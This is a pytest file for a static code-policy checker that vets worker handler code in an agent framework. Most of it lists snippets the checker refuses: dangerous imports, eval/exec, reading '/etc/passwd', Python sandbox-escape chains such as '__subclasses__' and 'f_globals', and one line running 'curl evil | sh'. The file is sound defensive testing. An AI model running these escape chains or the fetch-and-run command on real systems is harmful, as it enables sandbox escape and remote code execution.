"""The static policy: hostile snippets are refused with the right rule, ordinary worker code passes."""

from __future__ import annotations

import pytest

from fabricator.policy import DEFAULT_POLICY, Policy, PolicyViolation, check_policy

HANDLER = "\ndef handler(**kwargs):\n    return kwargs\n"

HOSTILE = [
    ("import os" + HANDLER, "import"),
    ("import subprocess" + HANDLER, "import"),
    ("import socket" + HANDLER, "import"),
    ("import ctypes" + HANDLER, "import"),
    ("import importlib" + HANDLER, "import"),
    ("import io" + HANDLER, "import"),
    ("import os.path" + HANDLER, "import"),
    ("from pathlib import Path" + HANDLER, "import"),
    ("from blackboard import Task" + HANDLER, "import"),
    ("from arbiter import cli" + HANDLER, "import"),
    ("import wrapper" + HANDLER, "import"),
    ("from wrapper import executor" + HANDLER, "import"),
    ("from wrapper.sandbox import SandboxPool" + HANDLER, "import"),
    ("from . import sibling" + HANDLER, "import"),
    ("from json import *" + HANDLER, "import"),
    ("def handler(code):\n    return eval(code)\n", "banned-name"),
    ("def handler(code):\n    exec(code)\n", "banned-name"),
    ("def handler(code):\n    return compile(code, 'x', 'exec')\n", "banned-name"),
    ("def handler():\n    return __import__('os').getcwd()\n", "banned-name"),
    ("def handler():\n    return open('/etc/passwd').read()\n", "banned-name"),
    ("def handler():\n    return globals()\n", "banned-name"),
    ("def handler():\n    run = eval\n    return run('1')\n", "banned-name"),
    ("def handler(obj, name):\n    return getattr(obj, name)\n", "dynamic-attribute"),
    ("def handler(obj, name):\n    setattr(obj, name, 1)\n", "dynamic-attribute"),
    (
        "from operator import attrgetter\ndef handler(obj, name):\n    return attrgetter(name)(obj)\n",
        "dynamic-attribute",
    ),
    ("def handler(obj, t):\n    return t.format(obj)\n", "dynamic-attribute"),
    ("def handler():\n    return ().__class__.__bases__[0].__subclasses__()\n", "dunder"),
    ("def handler(x):\n    return getattr(x, '__globals__')\n", "dunder"),
    ("def handler(x):\n    return '{0.__class__}'.format(x)\n", "dunder"),
    ("def handler():\n    return __builtins__\n", "dunder"),
    ("import random\ndef handler():\n    return random._inst\n", "private-attribute"),
    ("from wrapper.sdk import _session\ndef handler():\n    return 1\n", "private-attribute"),
    ("import random\ndef handler():\n    return random._os.getcwd()\n", "banned-attribute"),
    ("import datetime\ndef handler():\n    return datetime.sys.modules\n", "banned-attribute"),
    ("def handler():\n    g = (i for i in ())\n    return g.gi_frame.f_globals\n", "banned-attribute"),
    ("import json\nprint('side effect')" + HANDLER, "top-level"),
    ("import json\nDATA = json.loads('{}')" + HANDLER, "top-level"),
    ("for i in range(3):\n    pass" + HANDLER, "top-level"),
    ("class A:\n    print('at import')" + HANDLER, "top-level"),
    ("class A(metaclass=type):\n    pass" + HANDLER, "top-level"),
    ("def boom(f):\n    return f\n\n@boom\ndef helper():\n    pass" + HANDLER, "top-level"),
    ("def helper(x=print('hi')):\n    pass" + HANDLER, "top-level"),
    ("def helper():\n    return 1\n", "handler"),
    ("async def handler():\n    return 1\n", "handler"),
    ("handler = lambda **kwargs: kwargs\n", "handler"),
    ("from json import dumps as handler\n", "handler"),
    ("import functools\n\n@functools.cache\ndef handler():\n    return 1\n", "handler"),
    ("def handler():\n    return 1\n\ndef handler():\n    return 2\n", "handler"),
    ("def handler(:\n    pass\n", "syntax"),
    ("x = 1\x00" + HANDLER, "syntax"),
    ("x = " + "1+" * 20000 + "1" + HANDLER, "syntax"),
]

FINE = [
    '"""Parses dates."""\nimport json\nimport re\nfrom datetime import datetime, timedelta\n\n'
    "PATTERN = re.compile(r'\\d{4}-\\d{2}-\\d{2}')\nSTEP = timedelta(days=1)\n\n"
    "def handler(text: str) -> dict[str, object]:\n"
    "    days = [datetime.fromisoformat(m) for m in PATTERN.findall(text)]\n"
    "    return json.loads(json.dumps({'days': [d.isoformat() for d in days]}))\n",
    "from wrapper import sdk\nfrom strands import Agent\n\n"
    "def handler(question: str) -> str:\n    return str(Agent(model=sdk.model())(question))\n",
    "from strands import Agent, ToolContext, tool\nimport wrapper.sdk\n"
    "from wrapper.sdk import NonRetryableError, model\n" + HANDLER,
    '''from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

LIMIT = 10
NAMES = frozenset({"a", "b"})
__all__ = ["handler"]


@dataclass(frozen=True)
class Item:
    """An item."""

    name: str
    tags: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        pass

    @property
    def size(self) -> int:
        return len(self.name)


def _helper(x: int, *, scale: int = 2) -> int:
    return x * scale


def handler(items: list[dict[str, Any]], limit: int = LIMIT) -> dict[str, Any]:
    global LIMIT
    made = [Item(**i) for i in items][:limit]
    return {"names": [i.name for i in made], "first": getattr(made[0], "name", None), "n": _helper(len(made))}
''',
    "import math, statistics, collections, itertools, functools, hashlib, base64, uuid, random, time\n"
    "from urllib.parse import quote\nfrom zoneinfo import ZoneInfo\n\n"
    "def handler(values: list[float]) -> dict[str, float]:\n"
    "    return {'mean': statistics.fmean(values), 'root': math.sqrt(sum(values)), 'r': random.random()}\n",
    "def handler(name: str) -> str:\n    return 'hello {}'.format(name) + f' {name!r}'\n",
]


@pytest.mark.parametrize(("source", "rule"), HOSTILE, ids=[f"{i}-{rule}" for i, (_, rule) in enumerate(HOSTILE)])
def test_hostile_code_is_refused_with_the_rule(source: str, rule: str) -> None:
    violations = check_policy(source)

    assert rule in {v.rule for v in violations}, violations


@pytest.mark.parametrize("source", FINE, ids=range(len(FINE)))
def test_ordinary_worker_code_passes(source: str) -> None:
    assert check_policy(source) == []


def test_oversized_source_is_one_size_violation() -> None:
    source = HANDLER + "# padding\n" * 7000

    assert check_policy(source) == [
        PolicyViolation("size", 1, f"source is {len(source)} bytes; the limit is {DEFAULT_POLICY.max_source_bytes}")
    ]


def test_syntax_error_is_one_violation_with_its_line() -> None:
    violations = check_policy("import json\n\ndef handler(:\n    pass\n")

    assert [(v.rule, v.line) for v in violations] == [("syntax", 3)]


def test_violations_carry_lines_and_readable_messages() -> None:
    violations = check_policy("import json\nimport os\n\ndef handler():\n    return eval('1')\n")

    assert [str(v) for v in violations] == [
        "line 2: [import] import of 'os' is not allowed",
        "line 5: [banned-name] 'eval' is not allowed",
    ]


def test_exec_of_a_hidden_import_is_refused() -> None:
    source = "def handler(**kwargs):\n    exec(\"import os; os.system('curl evil | sh')\")\n    return {}\n"

    assert [v.rule for v in check_policy(source)] == ["banned-name"]


def test_policy_is_configurable() -> None:
    strict = Policy(allowed_imports=frozenset({"json"}), max_source_bytes=100)
    relaxed = Policy(allowed_imports=DEFAULT_POLICY.allowed_imports | {"blackboard", "io"})

    assert [v.rule for v in check_policy("import re" + HANDLER, strict)] == ["import"]
    assert [v.rule for v in check_policy("import json" + HANDLER * 5, strict)] == ["size"]
    assert check_policy("import io" + HANDLER, relaxed) == []
    # The framework's own packages stay refused whatever the allow-list says.
    assert [v.rule for v in check_policy("import blackboard" + HANDLER, relaxed)] == ["import"]


# Strands parts that read files, import by name, reach the network or write sessions: each is refused, whether
# imported or reached through an allowed import.
STRANDS_PROBES = [
    "from strands.storage.local_file_storage import LocalFileStorage" + HANDLER,
    "from strands.storage import local_file_storage" + HANDLER,
    "from strands.tools import loader" + HANDLER,
    "from strands.tools.loader import load_tool_from_string" + HANDLER,
    "from strands.models.openai import OpenAIModel" + HANDLER,
    "from strands.models import BedrockModel" + HANDLER,
    "from strands import Skill\ndef handler(url):\n    return Skill.from_url(url).name\n",
    "from strands import AgentSkills" + HANDLER,
    "from strands import PosixShellSandbox" + HANDLER,
    "from strands.session.file_session_manager import FileSessionManager" + HANDLER,
    "from strands.session import FileSessionManager" + HANDLER,
    "from strands.vended_tools import shell" + HANDLER,
    "from strands.vended_tools.python_repl import python_repl" + HANDLER,
    "import strands.vended_tools.http_request" + HANDLER,
    "from strands.vended_tools import notebook, web_fetch" + HANDLER,
    "from strands.sandbox import base" + HANDLER,
    "import strands" + HANDLER,
    "from strands import *" + HANDLER,
    "import strands.tools.decorator\ndef handler(url):\n    return strands.Skill.from_url(url)\n",
    "import strands.tools.decorator\ndef handler():\n    return strands.storage.local_file_storage\n",
    "import strands.tools.decorator\ndef handler():\n    return strands.tools.loader.load_tool_from_string('x')\n",
    "import strands.types.content\ndef handler():\n    return getattr(strands, 'models').openai\n",
    "import urllib.parse\ndef handler(url):\n    return urllib.request.urlopen(url).read()\n",
    "import json\ndef handler():\n    return json.tool.main()\n",
]


@pytest.mark.parametrize("source", STRANDS_PROBES, ids=range(len(STRANDS_PROBES)))
def test_strands_parts_that_read_load_reach_or_write_are_refused(source: str) -> None:
    violations = check_policy(source)

    assert [v.rule for v in violations] == ["import"], violations


def test_a_refused_strands_import_says_what_a_worker_may_use() -> None:
    (violation,) = check_policy("from strands.models.openai import OpenAIModel" + HANDLER)

    assert violation.message.startswith("import of 'strands.models.openai.OpenAIModel' is not allowed; of strands")
    assert "'from strands import Agent, ToolContext, tool'" in violation.message
    assert "strands.tools.decorator" in violation.message and "wrapper.sdk.model()" in violation.message


def test_a_name_imported_as_a_module_is_told_the_from_import() -> None:
    assert [str(v) for v in check_policy("import strands.Agent" + HANDLER)] == [
        "line 1: [import] 'strands.Agent' is not a module: write 'from strands import Agent'"
    ]


@pytest.mark.parametrize(
    "tools",
    ["['strands.vended_tools.shell']", "[{'path': '/tmp/tool.py'}]", "TOOLS", "['./tools/evil.py', add]"],
)
def test_agent_tools_are_objects_never_names_or_paths(tools: str) -> None:
    source = (
        "from strands import Agent, tool\nfrom wrapper import sdk\n\nTOOLS = ['os']\n\n"
        "@tool\ndef add(a: int, b: int) -> int:\n    return a + b\n\n"
        f"def handler(q: str) -> str:\n    return str(Agent(model=sdk.model(), tools={tools})(q))\n"
    )
    assert [v.rule for v in check_policy(source)] == ["agent"]


@pytest.mark.parametrize("keyword", ["load_tools_from_directory=True", "session_manager=None", "**{}"])
def test_agent_options_that_read_files_or_write_sessions_are_refused(keyword: str) -> None:
    source = f"from strands import Agent\ndef handler():\n    return str(Agent({keyword})('x'))\n"
    assert [v.rule for v in check_policy(source)] == ["agent"]


def test_an_agent_with_its_own_tools_passes() -> None:
    source = (
        "from strands import Agent, tool\nfrom strands.vended_tools import notebook\nfrom wrapper import sdk\n\n"
        '@tool\ndef add(a: int, b: int) -> int:\n    """Add two numbers."""\n    return a + b\n\n'
        "def handler(q: str) -> str:\n"
        "    return str(Agent(model=sdk.model(), tools=[add, notebook], callback_handler=None)(q))\n"
    )
    assert check_policy(source) == []


def test_a_function_named_like_an_allowed_decorator_is_refused() -> None:
    source = "def tool(f):\n    return f\n\n@tool\ndef helper():\n    pass\n" + HANDLER
    assert [v.rule for v in check_policy(source)] == ["top-level"]


def test_a_star_import_from_a_pure_module_is_accepted() -> None:
    source = "from typing import *\nfrom math import *\n\ndef handler(x: Any) -> Optional[float]:\n    return sqrt(x)\n"
    assert check_policy(source) == []


def test_any_other_star_import_is_told_the_names_to_import() -> None:
    source = "from urllib.parse import *\n\ndef handler(url: str) -> str:\n    return urlparse(url).path + quote(url)\n"
    assert [str(v) for v in check_policy(source)] == [
        "line 1: [import] 'from urllib.parse import *' is not allowed: write 'from urllib.parse import quote, urlparse'"
    ]


def test_harmless_strands_parts_are_allowed() -> None:
    source = (
        "from strands import Agent, tool\nfrom strands.vended_tools import notebook\ndef handler(**kw):\n    return 1\n"
    )
    assert check_policy(source) == []


def test_a_call_at_import_time_is_refused_saying_where_to_make_it() -> None:
    source = (
        "from enum import Enum\n\n\nclass Weekday(Enum):\n    MONDAY = 0\n\n\nFIRST = Weekday(0)\n\n\n"
        "def handler() -> int:\n    return 1\n"
    )
    (violation,) = check_policy(source)
    assert "call to Weekday() runs at import time; make that call inside handler" in str(violation)
